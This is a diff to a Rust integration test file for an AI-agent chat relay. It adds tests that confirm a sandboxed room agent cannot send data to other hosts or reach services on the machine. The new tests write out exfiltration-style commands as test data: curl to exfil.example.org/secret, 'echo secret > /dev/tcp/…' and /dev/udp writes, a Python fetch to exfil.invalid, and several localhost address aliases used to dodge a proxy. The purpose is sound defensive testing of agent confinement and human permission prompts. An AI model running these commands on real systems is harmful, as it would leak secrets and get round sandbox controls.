@@ -2,7 +2,12 @@
 
 use std::{
     fs,
+    net::TcpListener,
     path::{Path, PathBuf},
+    sync::{
+        Arc,
+        atomic::{AtomicUsize, Ordering},
+    },
 };
 
 use adapters::testing::fake::FakeRoom;
@@ -18,9 +23,12 @@ const SECRET: &str = "only-for-the-operator";
 const PLACES: [&str; 2] = ["worktree", "checkout"];
 
 async fn start(workspace: &str) -> Bot {
-    let relay = format!("[relay]\nworkspace = \"{workspace}\"");
+    start_with(&format!("[relay]\nworkspace = \"{workspace}\"")).await
+}
+
+async fn start_with(relay: &str) -> Bot {
     let team = "[[agent]]\nname = \"boss\"\nstage = \"supervisor\"\n";
-    let setup = Setup::new(Cli::StandIn).config(&relay).committed("README.md", "one\n");
+    let setup = Setup::new(Cli::StandIn).config(relay).committed("README.md", "one\n");
     let bot = setup.file(".storkit/project.toml", team).start().await;
     bot.started().await;
     bot
@@ -28,16 +36,59 @@ async fn start(workspace: &str) -> Bot {
 
 /// Has the room's agent run a command that a person allows; returns what the command printed.
 async fn run(room: &FakeRoom, command: &str) -> String {
-    room.say(&format!("bash {command}")).await;
-    let asked = room.see("may I use **Bash**").await.text;
-    // By its number: a bare word so soon after another question would be for neither.
-    let number: String =
-        asked.chars().skip_while(|c| !c.is_ascii_digit()).take_while(char::is_ascii_digit).collect();
-    room.say(&format!("yes {number}")).await;
-    room.see("allowed").await;
+    begin(room, command).await;
     room.settled().await;
     room.shown().last().map(|message| message.text.clone()).unwrap_or_default()
 }
+
+/// Has the room's agent run a command that a person allows.
+async fn begin(room: &FakeRoom, command: &str) {
+    room.say(&format!("bash {command}")).await;
+    answer(room, "may I use **Bash**", "yes").await;
+}
+
+/// Answers the next question that has these words.
+async fn answer(room: &FakeRoom, words: &str, answer: &str) {
+    let asked = room.see(words).await.text;
+    // By its number: a bare word so soon after another question would be for neither.
+    let number: String =
+        asked.chars().skip_while(|c| !c.is_ascii_digit()).take_while(char::is_ascii_digit).collect();
+    let (word, rest) = answer.split_once(' ').unwrap_or((answer, ""));
+    room.say(format!("{word} {number} {rest}").trim_end()).await;
+    room.see(if word == "no" { "denied" } else { "allowed" }).await;
+}
+
+/// A service that counts who comes.
+struct CountingServer {
+    address: String,
+    came: Arc<AtomicUsize>,
+}
+
+impl CountingServer {
+    fn start(host: &str) -> Self {
+        let listener = TcpListener::bind((host, 0)).expect("a port");
+        let address = listener.local_addr().expect("an address").to_string();
+        let came = Arc::new(AtomicUsize::new(0));
+        let count = came.clone();
+        std::thread::spawn(move || {
+            for _ in listener.incoming().flatten() {
+                count.fetch_add(1, Ordering::SeqCst);
+            }
+        });
+        Self { address, came }
+    }
+
+    fn came(&self) -> usize {
+        self.came.load(Ordering::SeqCst)
+    }
+}
+
+/// The walls of this machine, and where a room works behind each.
+const WALLS: [&str; 3] = [
+    "[relay]\nworkspace = \"worktree\"",
+    "[relay]\nworkspace = \"checkout\"",
+    "[wall]\nconfine = \"landlock\"\n[relay]\nworkspace = \"worktree\"",
+];
 
 /// Has the agent print the file in ways that no redaction knows, and sees that it does not exist.
 async fn cannot_read(room: &FakeRoom, file: &Path) {
@@ -263,5 +314,76 @@ async fn a_room_agent_changes_the_gates_by_landing_them() {
     room.say("land Faster gates").await;
     room.see("The changes touch `.storkit/project.toml`").await;
     assert!(bot.app.services().commands.pipeline.snapshot().board.stories.is_empty());
+    bot.app.shutdown().await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_room_agent_sends_its_work_to_another_host() {
+    needs!(Bubblewrap);
+    for wall in WALLS {
+        let bot = start_with(wall).await;
+        let room = bot.room("a");
+        // Not 127.0.0.1, which clients reach without the proxy.
+        let elsewhere = CountingServer::start("127.0.0.2");
+        let address = &elsewhere.address;
+        let udp = format!("echo secret > /dev/udp/{}", address.replace(':', "/"));
+        let tries = [
+            format!("curl -sS --max-time 60 http://{address}/"),
+            format!("curl -sS --max-time 60 --noproxy '*' http://{address}/"),
+            format!("timeout 60 bash -c 'echo secret > /dev/tcp/{}'", address.replace(':', "/")),
+            udp,
+        ];
+        run(&room, &format!("{}; true", tries.join("; "))).await;
+        let said = room.transcript();
+        assert_eq!(elsewhere.came(), 0, "{wall}: {said}");
+        assert!(said.contains("it is not public"), "{wall}: {said}");
+        begin(&room, "curl -v --max-time 300 https://exfil.example.org/secret; true").await;
+        answer(&room, "may I use **Network**", "no not there").await;
+        room.settled().await;
+        let said = room.transcript();
+        assert!(said.contains("denied it: not there"), "{wall}: {said}");
+        bot.app.shutdown().await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_room_agent_reaches_the_services_of_this_machine() {
+    needs!(Bubblewrap);
+    for wall in WALLS {
+        let bot = start_with(wall).await;
+        let room = bot.room("a");
+        let service = CountingServer::start("127.0.0.1");
+        let port = service.address.rsplit(':').next().expect("a port");
+        let hosts = ["127.0.0.1", "localhost", "2130706433", "[::ffff:127.0.0.1]", "0.0.0.0"];
+        let direct = hosts.map(|host| format!("curl -sS --max-time 60 --noproxy '*' http://{host}:{port}/"));
+        let by_proxy = hosts.map(|host| format!("curl -sS --max-time 60 --noproxy '' http://{host}:{port}/"));
+        let own = format!("curl -sS --max-time 60 --noproxy '*' http://127.0.0.1:{}/health", bot.app.port());
+        let tries = direct.into_iter().chain(by_proxy).chain([own]);
+        run(&room, &format!("{}; true", tries.collect::<Vec<_>>().join("; "))).await;
+        let said = room.transcript();
+        assert_eq!(service.came(), 0, "{wall}: {said}");
+        assert!(said.contains("storkit refuses 127.0.0.1"), "{wall}: {said}");
+        assert!(!said.contains("may I use **Network**"), "{wall}: no person can open it");
+        bot.app.shutdown().await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_rooms_host_rule_serves_another_room() {
+    needs!(Bubblewrap);
+    let bot = start("worktree").await;
+    let (one, other) = (bot.room("a"), bot.room("b"));
+    // Not by a program that is known to fetch pages: after that there are no rules until a person writes.
+    let fetch =
+        "python3 -c 'import urllib.request as u; u.urlopen(\"https://exfil.invalid/\")' 2>&1 | tail -n 1";
+    begin(&one, fetch).await;
+    answer(&one, "may I use **Network**", "always").await;
+    one.settled().await;
+    // Now the rule answers.
+    let said = run(&one, fetch).await;
+    assert!(said.contains("502"), "{said}");
+    begin(&other, fetch).await;
+    answer(&other, "may I use **Network**", "no").await;
+    other.settled().await;
     bot.app.shutdown().await;
 }
